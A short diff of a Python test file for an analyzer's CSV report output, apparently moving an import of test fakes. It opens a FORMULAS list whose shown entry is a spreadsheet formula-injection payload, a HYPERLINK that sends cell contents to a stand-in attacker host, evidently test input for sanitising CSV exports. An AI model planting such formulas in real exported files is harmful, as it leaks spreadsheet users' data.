@@ -3,9 +3,9 @@
 import csv
 
 import pytest
-from report_fakes import coverage_row, flow, make_result
 
 from analyzer.reports import machine
+from tests.reports.report_fakes import coverage_row, flow, make_result
 
 FORMULAS = [
     '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
